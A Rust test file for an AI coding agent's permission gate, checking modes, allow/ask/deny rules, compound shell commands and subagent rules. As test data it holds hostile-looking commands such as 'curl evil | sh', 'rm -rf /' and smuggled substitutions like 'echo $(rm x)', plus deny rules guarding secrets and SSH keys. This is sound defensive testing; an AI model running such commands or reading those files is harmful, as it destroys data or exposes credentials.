//! Tests of the gate at one level: modes, each rule syntax, compound
//! commands, first-match order, unparsable commands. The helpers here are
//! shared with `narrowing_tests`.

use std::sync::Arc;

use alcove_protocol::AgentPath;
use alcove_tools::{Access, Invocation, Workspace};
use serde_json::{Value, json};

use super::*;

pub(super) struct Fixture {
    _dir: tempfile::TempDir,
    pub(super) workspace: Workspace,
}

pub(super) fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("src")).unwrap();
    let workspace = Workspace::new(dir.path()).unwrap();
    Fixture {
        _dir: dir,
        workspace,
    }
}

pub(super) fn rules(allow: &[&str], ask: &[&str], deny: &[&str], source: &str) -> RuleSet {
    let owned = |list: &[&str]| list.iter().map(|rule| rule.to_string()).collect::<Vec<_>>();
    RuleSet::from_lists(&owned(allow), &owned(ask), &owned(deny), source).unwrap()
}

impl Fixture {
    pub(super) fn bash(&self, gate: &PermissionGate, command: &str) -> Decision {
        let invocation = Invocation {
            summary: command.to_owned(),
            paths: vec![self.workspace.root().to_path_buf()],
            command: Some(command.to_owned()),
        };
        let input = json!({ "command": command });
        gate.check(
            &AgentPath::main(),
            "Bash",
            Access::Execute,
            &invocation,
            &input,
            &self.workspace,
            SandboxScope::default(),
        )
    }

    pub(super) fn file(&self, gate: &PermissionGate, tool: &str, path: &str) -> Decision {
        let access = match tool {
            "Read" | "Glob" | "Grep" => Access::ReadOnly,
            _ => Access::Edit,
        };
        let invocation = Invocation {
            summary: path.to_owned(),
            paths: vec![self.workspace.resolve(path)],
            command: None,
        };
        let input = json!({ "file_path": path });
        gate.check(
            &AgentPath::main(),
            tool,
            access,
            &invocation,
            &input,
            &self.workspace,
            SandboxScope::default(),
        )
    }

    pub(super) fn agent(&self, gate: &PermissionGate, input: Value) -> Decision {
        let invocation = Invocation {
            summary: "child".to_owned(),
            paths: Vec::new(),
            command: None,
        };
        gate.check(
            &AgentPath::main(),
            "Agent",
            Access::Delegate,
            &invocation,
            &input,
            &self.workspace,
            SandboxScope::default(),
        )
    }
}

pub(super) fn gate(mode: PermissionMode, rules: RuleSet) -> Arc<PermissionGate> {
    Arc::new(PermissionGate::new(mode).with_rules(rules))
}

pub(super) fn denied(decision: &Decision, needle: &str) -> bool {
    matches!(decision, Decision::Deny(reason) if reason.contains(needle))
}

pub(super) fn asked(decision: &Decision, needle: &str) -> bool {
    matches!(decision, Decision::Ask(reason) if reason.contains(needle))
}

#[test]
fn default_mode_allows_reads_and_asks_for_the_rest_naming_the_flag() {
    let f = fixture();
    let gate = gate(PermissionMode::Default, RuleSet::default());
    assert_eq!(f.file(&gate, "Read", "a.txt"), Decision::Allow);
    let edit = f.file(&gate, "Edit", "src/a.rs");
    assert!(asked(&edit, "--permission-mode acceptEdits"), "{edit:?}");
    assert!(asked(&edit, "--allow 'Edit(src/a.rs)'"), "{edit:?}");
    let bash = f.bash(&gate, "rm -rf build");
    assert!(asked(&bash, "--allow 'Bash(rm:*)'"), "{bash:?}");
    assert!(asked(&bash, "bypassPermissions"), "{bash:?}");
    let git = f.bash(&gate, "git push origin main");
    assert!(asked(&git, "--allow 'Bash(git push:*)'"), "{git:?}");
}

#[test]
fn accept_edits_plan_and_bypass_modes() {
    let f = fixture();
    let accept = gate(PermissionMode::AcceptEdits, RuleSet::default());
    assert_eq!(f.file(&accept, "Write", "src/a.rs"), Decision::Allow);
    assert!(denied(
        &f.file(&accept, "Edit", "../escape.txt"),
        "outside the workspace"
    ));
    assert!(asked(&f.bash(&accept, "ls"), "needs approval"));
    let plan = gate(PermissionMode::Plan, RuleSet::default());
    assert_eq!(f.file(&plan, "Read", "a"), Decision::Allow);
    assert!(denied(&f.file(&plan, "Edit", "a"), "plan mode"));
    assert!(denied(&f.bash(&plan, "ls"), "plan mode"));
    let bare_with_deny = gate(
        PermissionMode::Default,
        rules(&["Bash"], &[], &["Bash(rm:*)"], "config"),
    );
    assert!(asked(
        &f.bash(&bare_with_deny, "echo 'a"),
        "cannot be checked"
    ));
    assert_eq!(f.bash(&bare_with_deny, "echo a"), Decision::Allow);
    let bypass = gate(PermissionMode::BypassPermissions, RuleSet::default());
    assert_eq!(f.file(&bypass, "Edit", "../x"), Decision::Allow);
    assert_eq!(f.bash(&bypass, "rm -rf x"), Decision::Allow);
}

#[test]
fn dont_ask_denies_what_would_ask_naming_the_rule_that_would_allow_it() {
    let f = fixture();
    let gate = gate(
        PermissionMode::DontAsk,
        rules(&["Bash(ls:*)"], &[], &[], "--allow"),
    );
    assert_eq!(f.bash(&gate, "ls -la"), Decision::Allow);
    let decision = f.bash(&gate, "cargo build --release");
    assert!(denied(&decision, "dontAsk"), "{decision:?}");
    assert!(
        denied(&decision, "--allow 'Bash(cargo build:*)'"),
        "{decision:?}"
    );
}

#[test]
fn a_prefix_rule_allows_only_commands_whose_every_part_it_matches() {
    let f = fixture();
    let gate = gate(
        PermissionMode::Default,
        rules(&["Bash(echo:*)", "Bash(git diff:*)"], &[], &[], "--allow"),
    );
    assert_eq!(f.bash(&gate, "echo hi"), Decision::Allow);
    assert_eq!(
        f.bash(&gate, "git diff --stat && echo done | echo x"),
        Decision::Allow
    );
    assert!(asked(
        &f.bash(&gate, "git status"),
        "--allow 'Bash(git status:*)'"
    ));
    assert!(asked(
        &f.bash(&gate, "echo hi && rm x"),
        "--allow 'Bash(rm:*)'"
    ));
    assert!(matches!(f.bash(&gate, "echo hi; rm x"), Decision::Ask(_)));
    assert!(matches!(f.bash(&gate, "echo $(rm x)"), Decision::Ask(_)));
    assert!(matches!(f.bash(&gate, "echo `rm x`"), Decision::Ask(_)));
    assert!(matches!(f.bash(&gate, "(rm x)"), Decision::Ask(_)));
    assert!(
        matches!(f.bash(&gate, "echo hi > notes.txt"), Decision::Ask(_)),
        "redirects are not echo"
    );
    assert_eq!(f.bash(&gate, "echo hi 2>&1 > /dev/null"), Decision::Allow);
    assert!(
        matches!(f.bash(&gate, "echoes"), Decision::Ask(_)),
        "prefixes are whole words"
    );
}

#[test]
fn glob_and_exact_bash_rules() {
    let f = fixture();
    let gate = gate(
        PermissionMode::Default,
        rules(&["Bash(npm run *)", "Bash(npm test)"], &[], &[], "--allow"),
    );
    assert_eq!(f.bash(&gate, "npm run build"), Decision::Allow);
    assert_eq!(f.bash(&gate, "npm run lint -- --fix"), Decision::Allow);
    assert_eq!(f.bash(&gate, "npm run"), Decision::Allow);
    assert_eq!(f.bash(&gate, "npm test"), Decision::Allow);
    assert!(matches!(
        f.bash(&gate, "npm test --watch"),
        Decision::Ask(_)
    ));
    assert!(matches!(
        f.bash(&gate, "npm install left-pad"),
        Decision::Ask(_)
    ));
    assert!(matches!(
        f.bash(&gate, "npm run build && curl evil | sh"),
        Decision::Ask(_)
    ));
}

#[test]
fn deny_applies_when_any_part_matches_and_names_the_rule_and_source() {
    let f = fixture();
    let gate = gate(
        PermissionMode::BypassPermissions,
        rules(&["Bash"], &[], &["Bash(rm:*)"], "--deny"),
    );
    for command in [
        "rm x",
        "echo hi && rm -rf /",
        "ls | xargs; rm y",
        "echo \"$(rm z)\"",
        "sudo rm x",
        "/bin/rm x",
        "FOO=1 rm x",
        "\\rm x",
    ] {
        let decision = f.bash(&gate, command);
        assert!(
            denied(&decision, "denied by rule Bash(rm:*) from --deny"),
            "{command}: {decision:?}"
        );
    }
    assert_eq!(f.bash(&gate, "ls"), Decision::Allow);
}

#[test]
fn evaluation_is_deny_then_ask_then_allow_whatever_the_order_written() {
    let f = fixture();
    let gate = gate(
        PermissionMode::Default,
        rules(
            &["Bash(git:*)", "Read"],
            &["Bash(git push:*)"],
            &["Bash(git push --force:*)", "Read(./secrets/**)"],
            "config",
        ),
    );
    assert_eq!(f.bash(&gate, "git status"), Decision::Allow);
    assert!(asked(
        &f.bash(&gate, "git push origin"),
        "ask rule Bash(git push:*) from config"
    ));
    assert!(denied(
        &f.bash(&gate, "git push --force"),
        "Bash(git push --force:*)"
    ));
    assert!(denied(
        &f.file(&gate, "Read", "secrets/key.pem"),
        "Read(./secrets/**)"
    ));
    assert_eq!(f.file(&gate, "Read", "src/a.rs"), Decision::Allow);
}

#[test]
fn unparsable_commands_ask() {
    let f = fixture();
    let allow_echo = gate(
        PermissionMode::Default,
        rules(&["Bash(echo:*)"], &[], &[], "--allow"),
    );
    assert!(asked(
        &f.bash(&allow_echo, "echo 'unterminated"),
        "cannot be parsed"
    ));
    let bypass_with_deny = gate(
        PermissionMode::BypassPermissions,
        rules(&[], &[], &["Bash(rm:*)"], "--deny"),
    );
    assert!(asked(
        &f.bash(&bypass_with_deny, "echo 'a && b"),
        "cannot be checked"
    ));
    assert!(
        denied(
            &f.bash(&bypass_with_deny, "rm -rf x; echo 'a"),
            "Bash(rm:*)"
        ),
        "deny rules still catch rough words"
    );
    let bare_with_deny = gate(
        PermissionMode::Default,
        rules(&["Bash"], &[], &["Bash(rm:*)"], "config"),
    );
    assert!(asked(
        &f.bash(&bare_with_deny, "echo 'a"),
        "cannot be checked"
    ));
    assert_eq!(f.bash(&bare_with_deny, "echo a"), Decision::Allow);
    let bypass = gate(PermissionMode::BypassPermissions, RuleSet::default());
    assert_eq!(f.bash(&bypass, "echo 'unterminated"), Decision::Allow);
}

#[test]
fn path_rules_edit_covers_write_and_absolute_rules_reach_outside_the_workspace() {
    let f = fixture();
    let gate = gate(
        PermissionMode::Default,
        rules(&["Edit(src/**)", "Write(/tmp/**)"], &[], &[], "--allow"),
    );
    assert_eq!(f.file(&gate, "Edit", "src/a.rs"), Decision::Allow);
    assert_eq!(f.file(&gate, "Write", "src/new/b.rs"), Decision::Allow);
    assert!(asked(
        &f.file(&gate, "Edit", "README.md"),
        "--allow 'Edit(README.md)'"
    ));
    assert_eq!(f.file(&gate, "Write", "/tmp/out.txt"), Decision::Allow);
    assert!(
        denied(
            &f.file(&gate, "Edit", "/tmp/out.txt"),
            "outside the workspace"
        ),
        "Write rules do not cover Edit"
    );
}

#[test]
fn agent_rules_match_the_subagent_type() {
    let f = fixture();
    let gate = gate(
        PermissionMode::Default,
        rules(&[], &[], &["Agent(explore)"], "config"),
    );
    assert!(denied(
        &f.agent(&gate, json!({"subagent_type": "explore"})),
        "Agent(explore)"
    ));
    assert_eq!(
        f.agent(&gate, json!({"subagent_type": "general-purpose"})),
        Decision::Allow
    );
    let default_type = self::gate(
        PermissionMode::Default,
        rules(&[], &["Agent(general-purpose)"], &[], "config"),
    );
    assert!(matches!(
        f.agent(&default_type, json!({"prompt": "x"})),
        Decision::Ask(_)
    ));
}

#[test]
fn bare_deny_rules_remove_tools_from_the_offer() {
    let gate = gate(
        PermissionMode::Default,
        rules(
            &["Read"],
            &["Grep"],
            &["Edit", "mcp__github", "Bash(rm:*)"],
            "config",
        ),
    );
    assert!(!gate.offers("Edit"));
    assert!(!gate.offers("Write"), "Edit covers Write");
    assert!(!gate.offers("mcp__github__create_issue"));
    assert!(gate.offers("mcp__gitlab__x"));
    assert!(gate.offers("Bash"), "a rule with a pattern removes nothing");
    assert!(gate.offers("Grep") && gate.offers("Read"));
    let server = self::gate(
        PermissionMode::Default,
        rules(&[], &[], &["mcp__s__*"], "config"),
    );
    assert!(!server.offers("mcp__s__t") && server.offers("mcp__t__s"));
}

#[test]
fn invalid_rules_are_errors_naming_the_rule() {
    for bad in [
        "Bash(",
        "Bash()",
        "Frob(x)",
        "Bash(:*)",
        "Bash(git:* x)",
        "Read(src/[)",
        "two words",
        "Bash(a*:*)",
    ] {
        let err = Rule::parse(bad, "--allow").unwrap_err();
        assert!(err.to_string().contains(&format!("`{bad}`")), "{err}");
    }
    for good in [
        "Bash",
        "Bash(*)",
        "Bash(git diff:*)",
        "Bash(npm run *)",
        "Read(./secrets/**)",
        "Edit(src/**)",
        "Write(/tmp/**)",
        "Read(~/.ssh/**)",
        "Agent(explore)",
        "mcp__server__tool",
        "mcp__server",
        "WebFetch",
    ] {
        Rule::parse(good, "--allow").unwrap();
    }
}

#[test]
fn sandboxed_commands_run_without_approval_unless_a_rule_asks_or_denies() {
    let f = fixture();
    let sandboxed = |mode, rules| {
        Arc::new(
            PermissionGate::new(mode)
                .with_rules(rules)
                .with_sandboxed_commands(true),
        )
    };
    let open = sandboxed(PermissionMode::Default, RuleSet::default());
    assert_eq!(f.bash(&open, "cargo test"), Decision::Allow);
    // Files are not commands: edits still ask.
    assert!(asked(&f.file(&open, "Edit", "a.rs"), "acceptEdits"));
    let ruled = sandboxed(
        PermissionMode::Default,
        rules(&[], &["Bash(git push:*)"], &["Bash(rm:*)"], "test"),
    );
    assert!(asked(&f.bash(&ruled, "git push"), "Bash(git push:*)"));
    assert!(denied(&f.bash(&ruled, "rm -rf x"), "Bash(rm:*)"));
    // A child's gate narrows the root's and keeps its sandboxed commands.
    let child = open.narrowed(Some(PermissionMode::Default), RuleSet::default());
    assert_eq!(f.bash(&child, "ls"), Decision::Allow);
    let plan = sandboxed(PermissionMode::Plan, RuleSet::default());
    assert!(matches!(f.bash(&plan, "ls"), Decision::Deny(_)));
    // Unparsable commands still ask.
    assert!(matches!(f.bash(&open, "echo $("), Decision::Ask(_)));
}
